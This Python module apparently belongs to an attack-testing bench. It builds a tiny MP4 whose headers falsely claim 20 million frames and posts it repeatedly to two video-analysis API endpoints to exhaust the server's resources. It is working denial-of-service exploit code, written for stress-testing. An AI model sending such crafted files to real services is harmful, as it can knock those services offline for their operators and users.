"""Attacks by video files: what a few bytes say about how much there is."""

import asyncio
import base64
import json
import struct

from bench.parts.attack_lines import Attacker, line

SIDE, TICKS_A_SECOND = 64, 1000
_MATRIX = struct.pack(">9I", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)


def box(name: bytes, *content: bytes) -> bytes:
    """A box of ISO/IEC 14496-12, section 4.2."""
    data = b"".join(content)
    return struct.pack(">I4s", 8 + len(data), name) + data


def full_box(name: bytes, *content: bytes, flags: int = 0) -> bytes:
    """One with a version, 0, and flags."""
    return box(name, struct.pack(">I", flags), *content)


def mp4_of_frames(count: int) -> bytes:
    """An MP4 of 650 bytes that says it has so many frames, of a byte each.

    Tables of equal times and sizes are as long for one frame as for a thousand million of them
    (ISO/IEC 14496-12, sections 8.6.1.2 and 8.7.3.2); FFmpeg makes an entry for each.
    """
    entry = box(
        b"mp4v",
        struct.pack(">6xH16xHH", 1, SIDE, SIDE),
        struct.pack(">IIIH32xHh", 0x480000, 0x480000, 0, 1, 24, -1),
    )
    table = box(
        b"stbl",
        full_box(b"stsd", struct.pack(">I", 1), entry),
        full_box(b"stts", struct.pack(">III", 1, count, 1)),
        full_box(b"stsc", struct.pack(">IIII", 1, 1, count, 1)),
        full_box(b"stsz", struct.pack(">II", 1, count)),
        full_box(b"stco", struct.pack(">II", 1, 48)),
    )
    reference = full_box(b"dref", struct.pack(">I", 1), full_box(b"url ", flags=1))
    information = box(b"minf", full_box(b"vmhd", bytes(8), flags=1), box(b"dinf", reference), table)
    media = box(
        b"mdia",
        full_box(b"mdhd", struct.pack(">IIIIHH", 0, 0, TICKS_A_SECOND, count, 0x55C4, 0)),
        full_box(b"hdlr", struct.pack(">4x4s13x", b"vide")),
        information,
    )
    head = struct.pack(">IIIII16x", 0, 0, 1, 0, count)
    size = struct.pack(">II", SIDE << 16, SIDE << 16)
    track = box(b"trak", full_box(b"tkhd", head, _MATRIX, size, flags=7), media)
    times = struct.pack(">IIIIIH10x", 0, 0, TICKS_A_SECOND, count, 0x10000, 0x100)
    movie = box(b"moov", full_box(b"mvhd", times, _MATRIX, struct.pack(">24xI", 2)), track)
    return box(b"ftyp", b"isom", bytes(4), b"isom") + box(b"mdat", bytes(64)) + movie


@line(
    "videos of 650 bytes that say they have 20 million frames, to be analyzed, 6 a second",
    analyzers=("pose", "exercise"),
    flags=("--expensive-per-minute", "100000"),
)
async def many_frames(attacker: Attacker) -> None:
    body = {"video_base64": base64.b64encode(mp4_of_frames(20_000_000)).decode()}
    async with attacker.http() as http:

        async def post(door: str) -> None:
            async for _ in attacker.rounds(3.0):
                status, answer = await attacker.ask(http, "POST", door, door, json=body)
                if status == 400:
                    attacker.seen[json.loads(answer)["message"][:60]] += 1

        await asyncio.gather(post("/api/ai/analyze-form"), post("/api/ml/analyze-video"))
